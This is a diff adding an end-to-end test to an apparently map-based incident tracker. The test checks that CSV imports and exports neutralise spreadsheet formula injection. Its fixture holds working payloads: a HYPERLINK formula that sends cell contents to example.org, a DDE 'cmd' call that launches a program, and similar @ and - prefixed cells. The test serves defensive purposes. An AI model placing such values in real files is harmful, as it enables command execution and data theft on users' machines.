@@ -203,3 +203,58 @@ test('an image beyond what the graphics can draw is refused with a reason, not s
 	);
 	expect(downloaded).toBe(false);
 });
+
+test('CSV exports neutralise imported cells a spreadsheet would run: data and import report', async ({
+	page
+}) => {
+	const hostile = {
+		place: '=HYPERLINK("http://example.org/?leak="&A1,"Hajin")',
+		actor: "+cmd|' /C calc'!A0",
+		target: '@SUM(1+1)*cmd|x',
+		summary: '-2+3+cmd|x'
+	};
+	const csv = [
+		'id,place,actor,target,summary,latitude,longitude,date',
+		Papa.unparse([['=EVIL1', ...Object.values(hostile), '34.6894', '40.8308', '2018-11-20']]),
+		// Rejected (no date): its id lands in the import report.
+		Papa.unparse([['@SUM(A1:A9)', 'x', '', '', '', '34.5', '40.9', '']])
+	].join('\n');
+	await page.goto('/');
+	await waitForMapIdle(page);
+	await page.getByRole('tab', { name: 'Data' }).click();
+	await page
+		.getByTestId('import-input')
+		.setInputFiles({ name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
+	await expect(page.getByTestId('import-report')).toContainText('1 imported');
+	await expect(page.getByTestId('incident-count')).toHaveText('15 incidents');
+
+	const report = await downloadFrom(page, 'import-report-csv');
+	const reportRows = Papa.parse<string[]>(report.bytes.toString('utf8').slice(1), {
+		comments: '#',
+		skipEmptyLines: true
+	}).data;
+	expect(reportRows.slice(1).map((row) => row[1])).toContain("'@SUM(A1:A9)");
+
+	await waitForMapIdle(page);
+	await page.getByTestId('export-button').click();
+	await expect(page.getByTestId('export-dialog')).toBeVisible();
+	const exported = await downloadFrom(page, 'export-csv');
+	const rows = Papa.parse<Record<string, string>>(exported.bytes.toString('utf8').slice(1), {
+		header: true,
+		comments: '#',
+		skipEmptyLines: true
+	}).data;
+	expect(rows).toHaveLength(15);
+	const imported = rows.find((row) => row.place?.includes('HYPERLINK'))!;
+	for (const [column, value] of Object.entries(hostile)) {
+		expect(imported[column], column).toBe(`'${value}`);
+	}
+	// No cell of the whole file would run, and numbers are still numbers.
+	for (const row of rows) {
+		for (const [column, value] of Object.entries(row)) {
+			if (/^[+-]?\d+(\.\d+)?$/.test(value)) continue;
+			expect(value, `${row.id} ${column}`).not.toMatch(/^[=+\-@\t\r]/);
+		}
+	}
+	expect(Number(imported.latitude)).toBeCloseTo(34.6894, 4);
+});
